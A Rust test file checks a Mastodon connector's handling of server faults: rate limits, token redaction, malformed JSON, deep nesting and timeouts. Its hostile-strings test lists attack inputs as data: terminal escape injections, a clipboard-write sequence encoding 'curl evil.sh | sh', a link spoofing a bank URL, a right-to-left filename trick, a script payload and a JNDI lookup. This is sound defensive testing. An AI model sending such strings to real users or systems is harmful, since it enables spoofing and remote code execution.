//! The Mastodon connector's inbox when the server misbehaves: rate limits waited out or
//! returned, a refused token kept out of the message, broken elements quarantined with their raw
//! bytes, a body that is not JSON, hostile strings kept exactly as sent, a stalled server.

mod support;

use kith::connectors::mastodon::Mastodon;
use kith::connectors::{Connector, ConnectorError};
use serde_json::{json, Value};
use std::time::{Duration, Instant};
use support::fake::{answer, first_then, ok, on, requests_to, serve, text};
use support::mastodon::{self, documented_me, fixture, mention, page, NOTIFICATIONS, TOKEN};
use support::page::{cursor_json, native_ids};
use wiremock::matchers::method;
use wiremock::{Mock, MockServer, ResponseTemplate};

fn connector(server: &MockServer) -> Mastodon {
    mastodon::connector_within(server, false, Duration::from_secs(1))
}

async fn mount_me(server: &MockServer) {
    documented_me().mount(server).await;
}

#[tokio::test]
async fn rate_limited_then_success() {
    let server = MockServer::start().await;
    mount_me(&server).await;
    first_then(
        &server,
        on("GET", NOTIFICATIONS).respond_with(
            ResponseTemplate::new(429)
                .insert_header("retry-after", "1")
                .set_body_json(json!({"error": "Too many requests"})),
        ),
        on("GET", NOTIFICATIONS).respond_with(page(&server, 5, 3)),
    )
    .await;
    let start = Instant::now();
    let p = connector(&server)
        .fetch(Some(r#"{"newest":"2","me":"42"}"#))
        .await
        .unwrap();
    assert!(
        start.elapsed() >= Duration::from_millis(950),
        "{:?}",
        start.elapsed()
    );
    assert_eq!(native_ids(&p), vec!["s5", "s4", "s3"]);
    assert_eq!(cursor_json(&p)["newest"], "5");
    assert_eq!(requests_to(&server, NOTIFICATIONS).await.len(), 2);
}

#[tokio::test]
async fn long_rate_limit_is_returned_not_slept() {
    let server = MockServer::start().await;
    serve(
        &server,
        on("GET", NOTIFICATIONS),
        ResponseTemplate::new(429).insert_header("retry-after", "120"),
    )
    .await;
    let err = connector(&server)
        .fetch(Some(r#"{"newest":"2","me":"42"}"#))
        .await
        .unwrap_err();
    assert_eq!(
        err,
        ConnectorError::RateLimited {
            wait: Duration::from_secs(120)
        }
    );
}

#[tokio::test]
async fn unauthorized_is_auth_error_without_the_token() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(answer(
            401,
            json!({"error": format!("The access token {TOKEN} is invalid")}),
        ))
        .mount(&server)
        .await;
    let c = connector(&server);
    let err = c.fetch(None).await.unwrap_err();
    assert_eq!(
        err,
        ConnectorError::Auth("HTTP 401: The access token ••• is invalid".into())
    );
    assert!(err.is_auth());
    assert!(matches!(c.whoami().await, Err(ConnectorError::Auth(_))));
}

#[tokio::test]
async fn malformed_elements_are_quarantined_with_raw_bytes() {
    let server = MockServer::start().await;
    mount_me(&server).await;
    let body = fixture("notifications_malformed.json");
    serve(&server, on("GET", NOTIFICATIONS), text(body.clone())).await;
    let p = connector(&server)
        .fetch(Some(r#"{"newest":"898","me":"42"}"#))
        .await
        .unwrap();
    assert_eq!(native_ids(&p), vec!["9903", "9899"]);
    assert_eq!(p.items[0].text, "first fine");
    let lines: Vec<&str> = body
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| l.trim_end_matches(','))
        .collect();
    let raws: Vec<&str> = p
        .malformed
        .iter()
        .map(|m| std::str::from_utf8(&m.raw).unwrap())
        .collect();
    assert_eq!(raws, vec![lines[1], lines[2], lines[3]]);
    assert!(
        p.malformed[0].reason.contains("escape"),
        "{}",
        p.malformed[0].reason
    );
    assert!(
        p.malformed[1].reason.starts_with("notification: "),
        "{}",
        p.malformed[1].reason
    );
    assert_eq!(
        p.malformed[2].reason,
        "mention notification without a status"
    );
    // The cursor still moves past every element, broken ones included.
    assert_eq!(cursor_json(&p)["newest"], "903");
}

#[tokio::test]
async fn invalid_utf8_and_deep_nesting_are_isolated() {
    let server = MockServer::start().await;
    let mut body = b"[".to_vec();
    body.extend_from_slice(b"{\"id\":\"12\",\"type\":\"mention\",\"created_at\":\"2026-03-14T10:00:00Z\",\"account\":{\"id\":\"1\",\"acct\":\"b\",\"display_name\":\"a");
    body.extend_from_slice(&[0xFF, 0x62, 0xC0, 0xAF]);
    body.extend_from_slice(b"\"}},");
    body.extend_from_slice(format!("{}{},", "[".repeat(200), "]".repeat(200)).as_bytes());
    body.extend_from_slice(serde_json::to_string(&mention(10)).unwrap().as_bytes());
    body.push(b']');
    serve(
        &server,
        on("GET", NOTIFICATIONS),
        ResponseTemplate::new(200).set_body_raw(body, "application/json"),
    )
    .await;
    let p = connector(&server)
        .fetch(Some(r#"{"newest":"9","me":"42"}"#))
        .await
        .unwrap();
    assert_eq!(native_ids(&p), vec!["s10"]);
    assert_eq!(p.malformed.len(), 2);
    assert!(p.malformed[0].raw.contains(&0xFF));
    assert!(
        p.malformed[1].reason.contains("recursion limit"),
        "{}",
        p.malformed[1].reason
    );
    assert_eq!(cursor_json(&p)["newest"], "12");
}

#[tokio::test]
async fn a_body_that_is_not_json_fails_the_page() {
    let server = MockServer::start().await;
    serve(
        &server,
        on("GET", NOTIFICATIONS),
        text("<html>maintenance</html>"),
    )
    .await;
    let err = connector(&server)
        .fetch(Some(r#"{"newest":"9","me":"42"}"#))
        .await
        .unwrap_err();
    assert_eq!(
        err,
        ConnectorError::Malformed(
            "notifications: unreadable body (HTTP 200): not a JSON array".into()
        )
    );
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[tokio::test]
async fn hostile_strings_pass_through_unchanged() {
    let hostile: Vec<String> = vec![
        "a\x1b[2J\x1b[Hb".into(),
        "ok\x1b[1A\x1b[2Kfake".into(),
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07".into(),
        "\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\".into(),
        "a\u{9b}2Jb \u{9d}0;t\u{9c}".into(),
        "Legit text\rFAKE".into(),
        "admin\x08\x08\x08\x08\x08guest".into(),
        "a\u{0000}b".into(),
        "a\x7fb".into(),
        "invoice\u{202E}gnp.exe".into(),
        "ad\u{200B}min \u{FEFF}admin a\u{2060}b".into(),
        "\u{3164}".into(),
        "hi\u{E0041}\u{E0042}\u{E0043}".into(),
        format!("Z{}", "\u{0301}\u{0316}\u{0344}".repeat(50)),
        "👨‍👩‍👧‍👦 🇺🇸 ⌨️ 🐻‍❄️ 👁️‍🗨️ 🥲🏻 😹".into(),
        "コンピュータ 你好，世界！ ｶﾞｷﾞｸﾞ pаypal".into(),
        "a\u{2028}b\u{2029}c".into(),
        "pay\tme".into(),
        "[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}".into(),
        "\x07".repeat(1000),
        "x".repeat(100_000),
    ];
    let server = MockServer::start().await;
    let body: Vec<Value> = hostile
        .iter()
        .enumerate()
        .map(|(i, h)| {
            json!({"id": (100 + i).to_string(), "type": "mention", "created_at": "2026-03-14T09:00:00Z",
                "account": {"id": format!("u{i}"), "acct": h, "display_name": h},
                "status": {"id": format!("st{i}"), "created_at": "2026-03-14T09:00:00Z",
                    "visibility": "public", "spoiler_text": h,
                    "content": format!("<p>{}</p>", html_escape(h))}})
        })
        .collect();
    serve(&server, on("GET", NOTIFICATIONS), ok(body)).await;
    let p = connector(&server)
        .fetch(Some(r#"{"newest":"1","me":"42"}"#))
        .await
        .unwrap();
    assert!(p.malformed.is_empty());
    assert_eq!(p.items.len(), hostile.len());
    for (it, h) in p.items.iter().zip(&hostile) {
        assert_eq!(&it.text, h);
        assert_eq!(it.title.as_ref(), Some(h));
        assert_eq!(it.author.name.as_ref(), Some(h));
        assert_eq!(it.author.handle.as_ref(), Some(h));
    }
}

#[tokio::test]
async fn stalled_server_is_a_network_error_quickly() {
    let server = MockServer::start().await;
    serve(
        &server,
        on("GET", NOTIFICATIONS),
        text("[]").set_delay(Duration::from_secs(10)),
    )
    .await;
    let c = mastodon::connector_within(&server, false, Duration::from_millis(300));
    let start = Instant::now();
    let err = c
        .fetch(Some(r#"{"newest":"1","me":"42"}"#))
        .await
        .unwrap_err();
    assert_eq!(err, ConnectorError::Network("timed out".into()));
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "{:?}",
        start.elapsed()
    );
    assert_eq!(
        requests_to(&server, NOTIFICATIONS).await.len(),
        3,
        "reads are retried"
    );
}
